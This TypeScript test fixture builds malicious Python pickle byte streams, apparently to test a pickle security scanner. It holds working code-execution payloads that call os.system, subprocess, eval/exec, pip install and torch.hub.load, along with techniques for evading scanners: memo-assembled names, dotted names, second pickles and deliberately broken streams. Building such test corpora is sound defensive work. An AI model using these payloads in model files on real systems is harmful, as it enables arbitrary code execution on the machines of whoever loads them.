/**
 * Malicious pickles, one per trick from public write-ups (picklescan and fickling bypasses,
 * nullifAI), each written opcode by opcode. Nothing here is ever unpickled.
 */
import { PickleWriter, dumps, tuple } from './pickle-writer.ts';
import { torchStateDict } from './pickle-corpus.ts';

const P0 = (s: string): Buffer => Buffer.from(s, 'latin1');

export const ATTACKS = {
  /** The classic: GLOBAL os.system, args, REDUCE (protocol 0). */
  osSystemGlobal: (): Buffer => P0("cos\nsystem\n(S'echo pwned'\ntR."),
  /** posix.system: what os.system pickles as on Linux. */
  posixSystem: (): Buffer => new PickleWriter(2).proto().globalOp('posix', 'system').str('id').tupleN(1).reduce().stop().bytes(),
  /** pip.main(['install', 'evil']): installs a package (and runs its setup.py). */
  pipMain: (): Buffer => new PickleWriter(4).proto().global('pip', 'main').dump(tuple(['install', 'evil-pkg'])).reduce().stop().bytes(),
  /** A submodule of a denied package, with a protocol 4 dotted name. */
  asyncioSubmodule: (): Buffer =>
    new PickleWriter(4, { frames: false }).proto().str('asyncio.unix_events').str('_UnixSubprocessTransport._start').stackGlobal().stop().bytes(),
  /** STACK_GLOBAL whose operands come from protocol 0 STRING opcodes. */
  stackGlobalFromStrings: (): Buffer =>
    new PickleWriter(4, { frames: false }).proto().str('os', 'STRING').str('system', 'STRING').stackGlobal().str('id', 'STRING').tupleN(1).reduce().stop().bytes(),
  /** STACK_GLOBAL from BINSTRING / SHORT_BINSTRING / UNICODE / BINUNICODE8 operands. */
  stackGlobalFrom: (how: 'BINSTRING' | 'SHORT_BINSTRING' | 'UNICODE' | 'BINUNICODE8'): Buffer =>
    new PickleWriter(4, { frames: false }).proto().str('subprocess', how).str('getoutput', how).stackGlobal().str('id').tupleN(1).reduce().stop().bytes(),
  /** Module and name stored in the memo early, fetched with GET much later, then STACK_GLOBAL + REDUCE. */
  memoAssembledNames: (): Buffer => {
    const w = new PickleWriter(4, { frames: false }).proto();
    w.str('builtins').put(7).pop().str('eval').put(9).pop();
    w.dump([1, 2, 3]).pop(); // something benign in between
    w.get(7).get(9).stackGlobal().str('__import__("os").system("id")').tupleN(1).reduce();
    return w.stop().bytes();
  },
  /** The callable itself PUT in the memo, popped, and fetched again before REDUCE. */
  memoAssembledCallable: (): Buffer => {
    const w = new PickleWriter(2).proto();
    w.globalOp('subprocess', 'check_output').put(200).pop();
    w.dump({ benign: 1 }).pop();
    w.get(200).dump(tuple(['id'])).reduce();
    return w.stop().bytes();
  },
  /** INST: MARK args INST module name (protocol 0). */
  inst: (): Buffer => P0("(S'id'\nios\nsystem\n."),
  /** OBJ: MARK callable args OBJ. */
  obj: (): Buffer => new PickleWriter(1).mark().globalOp('os', 'system').str('id').obj().stop().bytes(),
  /** NEWOBJ on subprocess.Popen. */
  newobj: (): Buffer => new PickleWriter(2).proto().globalOp('subprocess', 'Popen').dump(tuple(['id'])).newobj().stop().bytes(),
  /** NEWOBJ_EX on subprocess.Popen with kwargs. */
  newobjEx: (): Buffer => new PickleWriter(4).proto().global('subprocess', 'Popen').dump(tuple(['id'])).dump({ shell: true }).newobjEx().stop().bytes(),
  /** builtins.eval / exec / getattr. */
  builtinsCall: (name: 'eval' | 'exec' | 'getattr' | '__import__', protocol = 4): Buffer =>
    new PickleWriter(protocol).proto().global('builtins', name).dump(tuple('print(1)')).reduce().stop().bytes(),
  /** getattr(__import__('os'), 'system')('id') with only builtins. */
  getattrChain: (): Buffer => {
    const w = new PickleWriter(2).proto();
    w.global('builtins', 'getattr');
    w.global('builtins', '__import__').dump(tuple('os')).reduce();
    w.dump('system').tupleN(2).reduce(); // getattr(os, 'system')
    w.dump(tuple('id')).reduce(); // (...)('id'): an indirect call
    return w.stop().bytes();
  },
  /** operator.attrgetter('system')(importlib.import_module('os'))('id'). */
  attrgetterChain: (): Buffer => {
    const w = new PickleWriter(4).proto();
    w.global('operator', 'attrgetter').dump(tuple('system')).reduce();
    w.global('importlib', 'import_module').dump(tuple('os')).reduce().tupleN(1).reduce();
    w.dump(tuple('id')).reduce();
    return w.stop().bytes();
  },
  /** A benign pickle, then a second pickle with the payload (pickle.load called twice runs both). */
  secondPickle: (): Buffer => Buffer.concat([dumps({ a: 1 }, 2), P0('\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.')]),
  /** nullifAI: the payload, then a stream broken on purpose so scanners give up; Python already ran it. */
  nullifai: (): Buffer =>
    Buffer.concat([new PickleWriter(2).proto().global('builtins', 'exec').dump(tuple('import os;os.system("id")')).reduce().bytes(), P0('\x0a\x00\xff\xfeGARBAGE')]),
  /** A torch state dict whose data.pkl starts with a payload and whose BUILD is cut off. */
  nullifaiTorch: (): Buffer => {
    const good = torchStateDict([{ key: 'w', shape: [2, 2] }], 2);
    const payload = P0('cbuiltins\nexec\nX\x07\x00\x00\x00print()\x85R0');
    return Buffer.concat([good.subarray(0, 2), payload, good.subarray(2, good.length - 10)]);
  },
  unknownOpcode: (): Buffer => P0('\x80\x02K\x01\xff.'),
  truncated: (): Buffer => dumps({ weights: [1, 2, 3], name: 'x' }, 2).subarray(0, 20),
  /** torch.hub.load spelled as module 'torch', protocol 4 name 'hub.load'. */
  dottedName: (): Buffer => new PickleWriter(4).proto().global('torch', 'hub.load').dump(tuple('evil/repo', 'model')).reduce().stop().bytes(),
  /** A dunder walk: builtins.object.__subclasses__. */
  dunderWalk: (): Buffer => new PickleWriter(4).proto().global('builtins', 'object.__subclasses__').emptyTuple().reduce().stop().bytes(),
  /** Monkey-patching: BUILD on an imported module rewrites its attributes. */
  globalMutation: (): Buffer =>
    new PickleWriter(2).proto().globalOp('torch', '_utils').emptyDict().dump('_rebuild_tensor_v2').globalOp('builtins', 'print').setitem().build().stop().bytes(),
  /** STACK_GLOBAL whose name is computed by a call (str(b'system', 'ascii')): cannot be checked. */
  dynamicGlobal: (): Buffer => {
    const w = new PickleWriter(4, { frames: false }).proto();
    w.str('os');
    w.global('builtins', 'str').dump(tuple(Buffer.from('system'), 'ascii')).reduce();
    return w.stackGlobal().dump(tuple('id')).reduce().stop().bytes();
  },
  /** EXT1: a global by copyreg extension code. */
  extension: (): Buffer => new PickleWriter(2).proto().ext(42).dump(tuple('id')).reduce().stop().bytes(),
  /** Protocol 5 out-of-band buffer. */
  outOfBand: (): Buffer => new PickleWriter(5, { frames: false }).proto().nextBuffer().readonlyBuffer().stop().bytes(),
  /** torch.storage._load_from_bytes(b'<a pickle calling os.system>'): torch.load on embedded bytes. */
  loadFromBytes: (protocol = 2): Buffer => {
    const inner = P0("cos\nsystem\n(S'id'\ntR.");
    return new PickleWriter(protocol).proto().global('torch.storage', '_load_from_bytes').dump(tuple(inner)).reduce().stop().bytes();
  },
};
